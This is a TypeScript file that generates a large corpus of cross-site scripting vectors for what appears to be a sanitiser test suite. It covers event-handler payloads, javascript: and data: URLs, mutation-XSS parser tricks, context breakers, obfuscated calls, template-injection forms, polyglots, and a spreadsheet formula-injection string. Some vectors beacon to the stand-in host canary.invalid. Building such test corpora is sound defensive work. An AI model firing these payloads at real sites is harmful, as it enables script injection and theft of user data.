// XSS vectors, generated from the grammar of the well-known cheat sheets (OWASP filter evasion, PortSwigger, mutation
// papers): tags × events × quoting, schemes × disguises, namespaces × raw-text elements, breakers × cores. Any that
// ran would call `__xss`, open a dialog, or request the host `canary.invalid`.

import { CANARY, CORE, elements, entities, RUN, styles } from './vector-elements.ts'

const each = <A, B>(list: readonly A[], other: readonly B[], make: (a: A, b: B) => string): string[] =>
  list.flatMap((a) => other.map((b) => make(a, b)))

/** Elements that run script without interaction, and the attributes they need for that. */
const SELF_STARTING: readonly (readonly [tag: string, needs: string, event: string])[] = [
  ['img', 'src=x', 'onerror'],
  ['image', 'src=x', 'onerror'],
  ['img', 'srcset=x', 'onerror'],
  ['img', 'src=data:image/gif;base64,R0lGODlhAQABAAAAACw=', 'onload'],
  ['svg', '', 'onload'],
  ['body', '', 'onload'],
  ['body', '', 'onpageshow'],
  ['iframe', '', 'onload'],
  ['iframe', 'src=about:blank', 'onload'],
  ['audio', 'src=x', 'onerror'],
  ['video', 'src=x', 'onerror'],
  ['video', 'poster=x src=x', 'onloadstart'],
  ['video', 'autoplay src=data:,', 'onsuspend'],
  ['object', 'data=x', 'onerror'],
  ['object', 'data=data:text/html,', 'onload'],
  ['embed', 'src=data:text/html,', 'onload'],
  ['input', 'autofocus', 'onfocus'],
  ['input', 'type=image src=x', 'onerror'],
  ['select', 'autofocus', 'onfocus'],
  ['textarea', 'autofocus', 'onfocus'],
  ['button', 'autofocus', 'onfocus'],
  ['a', 'href=# autofocus', 'onfocus'],
  ['x', 'tabindex=1 autofocus', 'onfocus'],
  ['p', 'contenteditable autofocus', 'onfocusin'],
  ['details', 'open', 'ontoggle'],
  ['dialog', 'open', 'onbeforetoggle'],
  ['marquee', '', 'onstart'],
  ['marquee', 'loop=1 width=0', 'onfinish'],
  ['style', '', 'onload'],
  ['link', 'rel=stylesheet href=data:text/css,', 'onload'],
  ['link', 'rel=stylesheet href=x', 'onerror'],
  ['script', 'src=x', 'onerror'],
  ['svg><animate', 'attributeName=x dur=1s', 'onbegin'],
  ['svg><set', 'attributeName=x', 'onbegin'],
  ['svg><animateTransform', 'attributeName=x dur=1s', 'onend'],
  ['svg><image', 'href=x', 'onerror'],
  ['svg><style', '', 'onload'],
  ['math><mtext><img', 'src=x', 'onerror'],
  ['video><source', 'src=x', 'onerror'],
  ['xss', 'style=animation-name:x', 'onanimationstart'],
  ['p', 'style=transition:color.1s;color:red', 'ontransitionend'],
  ['frameset', '', 'onload'],
  ['table', 'background=x', 'onload'],
  ['form', 'id=f', 'onformdata'],
  ['xss', 'style=content-visibility:auto', 'oncontentvisibilityautostatechange'],
]
const QUOTES = ['', '"', "'", '`'] as const
const GAPS = [' ', '/', '\t', '\n', '\f', '/**/'] as const

const upDown = (text: string): string =>
  Array.from(text, (letter, i) => (i % 2 === 0 ? letter.toUpperCase() : letter)).join('')

const handlers: readonly string[] = SELF_STARTING.flatMap(([tag, needs, event]) =>
  QUOTES.map((quote) => `<${tag} ${needs} ${event}=${quote}${RUN}${quote}>`).concat(
    GAPS.map((gap) => `<${tag}${gap}${needs.replaceAll(' ', gap)}${gap}${event}=${RUN}${gap}>`),
    [
      `<${upDown(tag)} ${needs} ${upDown(event)}=${RUN}>`,
      `<${tag} ${needs} ${event}\n=\n${RUN}//`,
      `<${tag} ${needs} ${event}=${entities(RUN, (code) => `&#${code};`)}>`,
      `<${tag} ${needs} ${event}="${entities(RUN, (code) => `&#x${code.toString(16).padStart(6, '0')}`)}">`,
      `<<${tag} ${needs} ${event}=${RUN}>`,
      `<p title="<${tag} ${needs} ${event}=${RUN}>">`,
    ],
  ),
)

/** Events that need interaction; nobody interacts here, so only their removal is checked. */
const CAUSED = [
  'onclick',
  'onmouseover',
  'onpointerenter',
  'oncopy',
  'onwheel',
  'onkeydown',
  'ondrag',
  'onscroll',
]
const KEPT_TAGS = ['a', 'p', 'h2', 'li', 'td', 'th', 'img', 'blockquote', 'table', 'strong', 'hr', 'br']
const onKeptTags = each(
  KEPT_TAGS,
  CAUSED,
  (tag, event) => `<${tag} ${event}="${RUN}" href=x src=x>x</${tag}>`,
)

const SCHEMES: readonly string[] = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  `java&Tab;script:${RUN}`,
  `javascript&colon;${RUN}`,
  `java&NewLine;script&colon;${RUN}`,
  `${entities('javascript:', (code) => `&#${code};`)}${RUN}`,
  `${entities('javascript:', (code) => `&#x${code.toString(16)}`)}${RUN}`,
  `&#1;javascript:${RUN}`,
  ` \u00a0javascript:${RUN}`,
  `javascript://x%0a${RUN}`,
  `feed:javascript:${RUN}`,
  `view-source:javascript:${RUN}`,
  `vbscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5fX3hzcygxKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>`,
  `${CANARY}/s.js`,
  `http:${CANARY}/`,
  `\\\\canary.invalid\\x`,
  `/\\canary.invalid/x`,
]
const POSITIONS: readonly ((url: string) => string)[] = [
  (url) => `<iframe src="${url}"></iframe>`,
  (url) => `<iframe srcdoc='<script src="${url}"></script>'></iframe>`,
  (url) => `<embed src="${url}">`,
  (url) => `<object data="${url}"></object>`,
  (url) => `<script src="${url}"></script>`,
  (url) => `<link rel=stylesheet href="${url}">`,
  (url) => `<link rel=import href="${url}">`,
  (url) => `<link rel=prefetch href="${url}">`,
  (url) => `<img src="${url}">`,
  (url) => `<img srcset="${url} 2x">`,
  (url) => `<input type=image src="${url}">`,
  (url) => `<video poster="${url}" src="${url}"></video>`,
  (url) => `<a href="${url}" ping="${url}">x</a>`,
  (url) => `<a href='${url}'>x</a>`,
  (url) => `<form action="${url}"><button formaction="${url}">x</button></form>`,
  (url) => `<base href="${url}">`,
  (url) => `<svg><a xlink:href="${url}"><text y=9>x</text></a></svg>`,
  (url) => `<svg><use href="${url}"/></svg>`,
  (url) => `<svg><script href="${url}"/></svg>`,
  (url) => `<math href="${url}">x</math>`,
  (url) => `<body background="${url}">`,
  (url) => `<table background="${url}"><td background="${url}">`,
]
const addresses = each(POSITIONS, SCHEMES, (position, url) => position(url))

/** Parsed differently by a sanitiser and by the page that the result is inserted into. */
const FOREIGN = ['svg', 'math', 'svg><foreignObject', 'svg><desc', 'svg><title', 'math><mtext', 'math><mi']
const RAW_TEXT = [
  'style',
  'title',
  'textarea',
  'noscript',
  'xmp',
  'iframe',
  'noembed',
  'noframes',
  'script',
  'template',
  'select',
  'option',
  'table',
]
const mutations = [
  ...each(FOREIGN, RAW_TEXT, (outer, inner) => `<${outer}><${inner}><!--</${inner}>${CORE}-->`),
  ...each(FOREIGN, RAW_TEXT, (outer, inner) => `<${outer}><p><${inner}><a title="</${inner}>${CORE}">`),
  ...each(RAW_TEXT, RAW_TEXT, (outer, inner) => `<${outer}><${inner}></${outer}>${CORE}</${inner}>`),
  `<math><mtext><table><mglyph><style><!--</style>${CORE}`,
  `<math><mtext><table><mglyph><style><math><table id="</table>">${CORE}`,
  `<form><math><mtext></form><form><mglyph><style></math>${CORE}`,
  `<svg></p><style><a id="</style>${CORE}">`,
  `<math></p><style><!--</style>${CORE}--></style></math>`,
  `<noscript><p title="</noscript>${CORE}">`,
  `<svg><annotation-xml encoding="text/html"><style>${CORE}</style>`,
  `<math><annotation-xml encoding="text/html"><style>${CORE}</style>`,
  `<select><iframe></select>${CORE}`,
  `<![CDATA[><script>${RUN}</script>]]>`,
  `<svg><![CDATA[</svg>${CORE}]]>`,
  `<!--><script>${RUN}</script>-->`,
  `<!--!> ${CORE} --!>`,
  `<?xml ><script>${RUN}</script>?>`,
  `<%<!--'%><script>${RUN}</script -->`,
  `</p a="><script>${RUN}</script>">`,
  `<a href="https://x.example/?&quot;&gt;${CORE.replaceAll('<', '&lt;')}">x</a>`,
  `<p>&lt;script&gt;${RUN}&lt;/script&gt;</p>`,
  `<p>&amp;lt;img src=x onerror=${RUN}&amp;gt;</p>`,
]

const BREAKERS = [
  '">',
  "'>",
  '`>',
  '">\'>',
  '</script>',
  '</title>',
  '</textarea>',
  '</style>',
  '</noscript>',
  '</template>',
  '</iframe>',
  '</xmp>',
  '</option></select>',
  '-->',
  '--!>',
  ']]>',
  '*/',
  '\\">',
  "\\'",
  "\\');//",
  '";',
  "';",
  '`}',
  '?>',
  '%>',
  '}}',
  '\u2028',
  '\u2029',
  '\ufeff',
  '\u00a0>',
  '＞',
  '\u0085',
  '\r\n\r\n',
  '%22%3E',
  '&quot;&gt;',
  '&#34;&#62;',
]
const CORES = [
  `<script>${RUN}</script>`,
  `<svg onload=${RUN}>`,
  `${RUN}//`,
  `-${RUN}-"`,
  ' autofocus onfocus=__xss(1) x="',
  `<script src=${CANARY}/a.js></script>`,
]
const breakers = each(BREAKERS, CORES, (breaker, core) => breaker + core)

const CALLS = [
  `eval('__xs'+'s(1)')`,
  `window['__xss'](1)`,
  `self[atob('X194c3M=')](1)`,
  `setTimeout('${RUN}')`,
  `[].constructor.constructor('${RUN}')()`,
  `Reflect.apply(__xss,0,[1])`,
  '__xss`1`',
  `import('data:text/javascript,${RUN}')`,
  `new Function\`${RUN}\`\`\``,
  `location='javascript:${RUN}'`,
  `throw onerror=__xss,1`,
  `fetch('http:${CANARY}/k')`,
  `navigator.sendBeacon('http:${CANARY}/b')`,
  `new Image().src='http:${CANARY}/i'`,
  `alert(1)`,
  `document.write('<script>${RUN}<\\/script>')`,
]
const calls = CALLS.flatMap((call) => [
  `<img src=x onerror="${call}">`,
  `<svg/onload="${call}">`,
  `<script>${call}</script>`,
  `{{${call}}}`,
  `{{constructor.constructor("${call}")()}}`,
  `\${${call}}`,
  `#{${call}}`,
  `<%= ${call} %>`,
])

const polyglots = [
  `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${RUN} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${RUN}//>\\x3e`,
  `'">><marquee><img src=x onerror=${RUN}></marquee>"></plaintext\\></|\\><plaintext/onmouseover=${RUN}>`,
  `';${RUN}//\\';${RUN}//";${RUN}//\\";${RUN}//--></SCRIPT>">'><SCRIPT>${RUN}</SCRIPT>`,
  `" onclick=${RUN}//<button ' onclick=${RUN}//> */ ${RUN}//`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `%253Cscript%253E${RUN}%253C/script%253E`,
  `\\x3cscript\\x3e${RUN}\\x3c/script\\x3e`,
  `＜script＞${RUN}＜/script＞`,
  `[x](javascript:${RUN}) ![x](x"onerror="${RUN})`,
  `=cmd|' /C calc'!A0`,
]

/** Without duplicates; vectors do not depend on each other. */
export const VECTORS: readonly string[] = [
  ...new Set([
    ...handlers,
    ...onKeptTags,
    ...addresses,
    ...mutations,
    ...breakers,
    ...styles,
    ...elements,
    ...calls,
    ...polyglots,
  ]),
]
